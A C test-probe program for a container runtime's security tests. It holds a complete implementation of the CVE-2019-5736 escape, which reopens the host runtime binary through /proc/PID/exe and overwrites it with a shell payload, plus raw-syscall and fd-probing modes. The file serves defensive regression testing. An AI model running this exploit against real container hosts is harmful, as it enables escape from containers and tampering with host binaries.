// SPDX-License-Identifier: Apache-2.0
// sec-probe: a static program the security tests (tests/integration/t_security*.sh) run inside
// containers to attack hull from the inside. Every mode prints key=value lines; a result is
// "ok" or the errno name (EPERM, ENOSYS, ...).
//
//   sec-probe exe-attack GATE SECS   CVE-2019-5736: find a process of this pid namespace whose
//                                    argv[0] is "/proc/self/exe" (hull, run as the interpreter of
//                                    a "#!/proc/self/exe --log=GATE" script by `hull exec`, blocked
//                                    opening the fifo GATE), keep an O_PATH fd of its /proc/PID/exe,
//                                    let it go (open GATE for reading), then reopen that fd for
//                                    writing until it is no longer busy and overwrite the file's
//                                    first bytes. Prints found=, exe=, open=, write=.
//   sec-probe exe-peek PID           readlink /proc/PID/exe and try to open it for writing (and
//                                    write) while PID runs.
//   sec-probe fds                    every open fd number, probed with fcntl up to RLIMIT_NOFILE
//                                    (no /proc needed): fds=0,1,2 and fd_N=<link target> for N>2
//   sec-probe syscall NR [ARG...]    the raw syscall NR; an ARG is a number (decimal, 0x hex,
//                                    negative) or s:TEXT for a pointer to TEXT. Prints result=.
//   sec-probe statfs PATH            f_type=0x... of the filesystem PATH is on
//   sec-probe chdir PATH             chdir(PATH) then getcwd: result= and cwd=
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/vfs.h>
#include <time.h>
#include <unistd.h>

static const char *errname(int e)
{
	const char *n = strerrorname_np(e);
	return n ? n : "EUNKNOWN";
}

static const char *res(long rc)
{
	return rc < 0 ? errname(errno) : "ok";
}

static void sleep_ms(long ms)
{
	struct timespec ts = {ms / 1000, (ms % 1000) * 1000000L};
	nanosleep(&ts, NULL);
}

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

// argv[0] of pid, "" when unreadable
static void proc_argv0(const char *pid, char *out, size_t len)
{
	char path[PATH_MAX];
	snprintf(path, sizeof path, "/proc/%s/cmdline", pid);
	out[0] = 0;
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	ssize_t n = read(fd, out, len - 1);
	close(fd);
	out[n > 0 ? n : 0] = 0;
}

// The pid of the hull process interpreting the script, or 0.
static int find_interpreted(char *pidbuf, int len)
{
	DIR *d = opendir("/proc");
	struct dirent *de;
	int found = 0;
	if (!d)
		return 0;
	while (!found && (de = readdir(d))) {
		if (de->d_name[0] < '1' || de->d_name[0] > '9' || atoi(de->d_name) == getpid())
			continue;
		char a0[PATH_MAX];
		proc_argv0(de->d_name, a0, sizeof a0);
		if (strcmp(a0, "/proc/self/exe") == 0) {
			snprintf(pidbuf, (size_t)len, "%.*s", len - 1, de->d_name);
			found = 1;
		}
	}
	closedir(d);
	return found;
}

static void print_exe(const char *pid)
{
	char path[64], target[PATH_MAX];
	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	ssize_t n = readlink(path, target, sizeof target - 1);
	target[n > 0 ? n : 0] = 0;
	printf("exe=%s\n", n > 0 ? target : errname(errno));
}

static void drain_gate(int g, double deadline)
{
	char buf[4096], line[4096] = "";
	size_t o = 0;
	for (;;) {
		struct pollfd p = {.fd = g, .events = POLLIN};
		int ms = (int)((deadline - now()) * 1000);
		if (ms <= 0 || poll(&p, 1, ms) <= 0)
			break;
		ssize_t n = read(g, buf, sizeof buf);
		if (n < 0 && errno == EAGAIN) {
			// no writer yet (or any more): POLLHUP without data; wait a little
			sleep_ms(5);
			continue;
		}
		if (n <= 0)
			break;
		for (ssize_t i = 0; i < n && o < sizeof line - 1; i++)
			line[o++] = buf[i] == '\n' ? ' ' : buf[i];
	}
	line[o] = 0;
	printf("gate_log=%s\n", line);
}

static int exe_attack(const char *gate, int secs)
{
	char pid[32];
	double deadline = now() + secs;
	while (!find_interpreted(pid, sizeof pid)) {
		if (now() > deadline) {
			printf("found=none\n");
			return 1;
		}
		sleep_ms(5);
	}
	printf("found=%s\n", pid);
	print_exe(pid);
	char path[64];
	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	int exe = open(path, O_PATH | O_CLOEXEC);
	if (exe < 0) {
		printf("open_path=%s\n", errname(errno));
		return 1;
	}
	// let the interpreted process go on (and exit): it is blocked opening the fifo for writing
	int g = open(gate, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	if (g < 0) {
		printf("gate=%s\n", errname(errno));
		return 1;
	}
	// what it logs before it exits (EOF: it closed the fifo); proves the interpreted hull ran
	drain_gate(g, deadline);
	// the file is busy (ETXTBSY) while any process executes it: hull exec and its child
	char self[64];
	snprintf(self, sizeof self, "/proc/self/fd/%d", exe);
	int w = -1, busy = 0;
	while ((w = open(self, O_WRONLY | O_CLOEXEC)) < 0 && errno == ETXTBSY && now() < deadline) {
		busy++;
		sleep_ms(10);
	}
	printf("busy_retries=%d\n", busy);
	if (w < 0 && errno == EACCES) {
		// only the mode bits in the way: make it writable (CAP_FOWNER) and try again
		printf("chmod=%s\n", res(chmod(self, 0777)));
		w = open(self, O_WRONLY | O_CLOEXEC);
	}
	printf("open=%s\n", res(w));
	if (w >= 0) {
		static const char payload[] = "#!/bin/sh\necho hacked by the container\n";
		ssize_t n = pwrite(w, payload, sizeof payload - 1, 0);
		printf("write=%s\n", n == (ssize_t)(sizeof payload - 1) ? "ok" : n < 0 ? errname(errno) : "short");
		close(w);
	} else {
		printf("write=not-opened\n");
	}
	close(g);
	return 0;
}

static int exe_peek(const char *pid)
{
	char path[64];
	print_exe(pid);
	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	int exe = open(path, O_PATH | O_CLOEXEC);
	printf("open_path=%s\n", res(exe));
	if (exe < 0)
		return 1;
	char self[64];
	snprintf(self, sizeof self, "/proc/self/fd/%d", exe);
	int w = open(self, O_WRONLY | O_CLOEXEC);
	printf("open=%s\n", res(w));
	if (w >= 0) {
		ssize_t n = pwrite(w, "#!", 2, 0);
		printf("write=%s\n", n == 2 ? "ok" : n < 0 ? errname(errno) : "short");
	} else {
		printf("write=not-opened\n");
	}
	return 0;
}

static int fds(void)
{
	struct rlimit rl;
	long max = getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur != RLIM_INFINITY ? (long)rl.rlim_cur : 65536;
	if (max > 1 << 20)
		max = 1 << 20;
	char list[8192] = "";
	size_t o = 0;
	for (long fd = 0; fd < max; fd++) {
		if (fcntl((int)fd, F_GETFD) < 0)
			continue;
		o += (size_t)snprintf(list + o, sizeof list - o, "%s%ld", o ? "," : "", fd);
		if (o >= sizeof list)
			break;
	}
	printf("fds=%s\n", list);
	for (long fd = 3; fd < max; fd++) {
		if (fcntl((int)fd, F_GETFD) < 0)
			continue;
		char p[64], t[PATH_MAX];
		snprintf(p, sizeof p, "/proc/self/fd/%ld", fd);
		ssize_t n = readlink(p, t, sizeof t - 1);
		t[n > 0 ? n : 0] = 0;
		printf("fd_%ld=%s\n", fd, t);
	}
	return 0;
}

static long arg_value(const char *s)
{
	if (strncmp(s, "s:", 2) == 0)
		return (long)(s + 2);
	return strtol(s, NULL, 0);
}

static int raw_syscall(int argc, char **argv)
{
	long nr = strtol(argv[0], NULL, 0);
	long a[6] = {0};
	for (int i = 1; i < argc && i <= 6; i++)
		a[i - 1] = arg_value(argv[i]);
	errno = 0;
	long r = syscall(nr, a[0], a[1], a[2], a[3], a[4], a[5]);
	printf("result=%s\n", res(r));
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc >= 4 && strcmp(argv[1], "exe-attack") == 0)
		return exe_attack(argv[2], atoi(argv[3]));
	if (argc >= 3 && strcmp(argv[1], "exe-peek") == 0)
		return exe_peek(argv[2]);
	if (argc >= 2 && strcmp(argv[1], "fds") == 0)
		return fds();
	if (argc >= 3 && strcmp(argv[1], "syscall") == 0)
		return raw_syscall(argc - 2, argv + 2);
	if (argc == 3 && strcmp(argv[1], "statfs") == 0) {
		struct statfs s;
		if (statfs(argv[2], &s) < 0) {
			printf("result=%s\n", errname(errno));
			return 1;
		}
		printf("f_type=0x%lx\n", (unsigned long)s.f_type);
		return 0;
	}
	if (argc == 3 && strcmp(argv[1], "chdir") == 0) {
		char buf[PATH_MAX];
		printf("result=%s\n", res(chdir(argv[2])));
		printf("cwd=%s\n", getcwd(buf, sizeof buf) ? buf : errname(errno));
		return 0;
	}
	fprintf(stderr, "usage: sec-probe exe-attack GATE SECS | exe-peek PID | fds | syscall NR [ARG...] | "
			"statfs PATH | chdir PATH\n");
	return 2;
}
